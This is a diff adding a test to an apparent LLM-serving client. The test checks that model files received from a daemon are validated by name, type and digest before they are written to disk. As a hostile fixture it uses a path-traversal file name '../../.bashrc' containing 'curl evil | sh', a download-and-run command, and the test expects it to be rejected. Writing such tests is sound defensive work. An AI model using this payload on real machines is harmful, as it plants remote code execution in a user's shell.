@@ -300,3 +300,24 @@ def test_core_answers_every_garbage_frame_and_keeps_serving(llm: LLM) -> None:
     assert llm.get_stats().num_rejected_frames - rejected_before == 2 * len(garbage)
     again = llm.generate(["Hello there"], greedy)[0].outputs[0].token_ids
     assert again == expected
+
+
+def test_a_client_stores_only_the_model_files_it_asked_for(tiny_checkpoints) -> None:
+    """What a daemon sends is checked before a client writes it to disk: the known names
+    (never a path), bytes, the digest its Ready gave."""
+    from zllm.protocol import model_files
+
+    path = tiny_checkpoints["llama"]
+    files = model_files.read_model_files(path, path)
+    digest = model_files.digest(files)
+    assert "tokenizer.json" in files and model_files.is_digest(digest)
+    assert model_files.check(files, digest) is None
+
+    hostile = {**files, "../../.bashrc": b"curl evil | sh"}
+    assert "unexpected file name '../../.bashrc'" in model_files.check(
+        hostile, model_files.digest(hostile)
+    )
+    assert "not bytes" in model_files.check({"config.json": "{}"}, digest)
+    assert "not a mapping" in model_files.check([b"x"], digest)
+    assert "do not match the digest" in model_files.check(files, "0" * 64)
+    assert not model_files.is_digest("../" + digest[3:])
